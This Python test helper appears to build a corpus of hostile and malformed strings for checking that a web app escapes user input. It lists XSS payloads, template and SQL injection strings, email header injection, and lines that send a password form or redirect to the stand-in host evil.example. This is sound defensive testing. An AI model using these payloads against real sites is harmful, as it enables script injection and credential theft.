"""What a stranger may write: strings that break programs, and strings that would run."""

import json
import os
from pathlib import Path

from tests.running import ROOT

BESIDE = ROOT.parent / "shared" / "data"
OTHERS = Path(os.environ.get("DATELINE_TEST_DATA", BESIDE)) / "strings" / "blns.json"
"""What others collected, no part of the project."""

OURS = [
    "<script>window.hit = 1</script>",
    "</script><script>window.hit = 1</script>",
    "</textarea><script>window.hit = 1</script>",
    "</title><svg onload=hit()>",
    "--><img src=x onerror=hit()>",
    "]]><img src=x onerror=hit()>",
    "<img src=x onerror=\"hit()\">",
    "'\"><svg/onload=hit()>",
    "\" autofocus onfocus=\"hit()",
    "' onmouseover='hit()",
    "<a href=\"javascript:hit()\">read on</a>",
    "[read on](javascript:hit())",
    "[read on](JaVaScRiPt&colon;hit())",
    "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
    "<javascript:hit()>",
    "<iframe srcdoc=\"<script>hit()</script>\"></iframe>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<form action=https://evil.example/><input name=password>",
    "{{ settings.SECRET_KEY }}{% load static %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;hit()&lt;/script&gt; &amp;amp; &#60;b&#62;",
    "%0d%0aBcc: eve@example.org %n %s %(title)s",
    "Rosa\r\nBcc: eve@example.org\r\n\r\n<b>hit</b>",
    ".\r\nQUIT",
    "\u202eevil\u202c \u2066x\u2069 \u200f\u200e",
    "Z\u0335\u0321\u0322\u035e\u0348a\u0337\u0322\u031b\u0334lgo\u0321",
    "\ufeffbyte \ufffe\uffff order",
    "مرحبا بالعالم – שלום",
    "👩‍👩‍👧‍👦 🏳️‍🌈 𝕿𝖍𝖊 \U000e0041",
    "a\x01b\x07c\x1bd\x7fe\x85f\u2028g\u2029h",
    "'; DROP TABLE comments_reply; --",
    "NULL", "undefined", "NaN", "0", "-1", "1e309", "\\", "\\0", "\\x00", "%", "_", "..", "/dev/null",
    "x" * 80,
]  # fmt: skip


def nasty() -> list[str]:
    """Ours, and those of others where they are at hand."""
    others = json.loads(OTHERS.read_text(encoding="utf-8")) if OTHERS.is_file() else []
    return list(dict.fromkeys(each for each in [*OURS, *others] if each.strip()))


def in_chunks(strings: list[str], longest: int) -> list[str]:
    """All of them, a paragraph each, in texts of at most so many letters."""
    chunks = [""]
    for each in strings:
        if len(chunks[-1]) + len(each) + 2 > longest:
            chunks.append("")
        chunks[-1] += f"{each}\n\n"
    return [chunk.strip() for chunk in chunks]
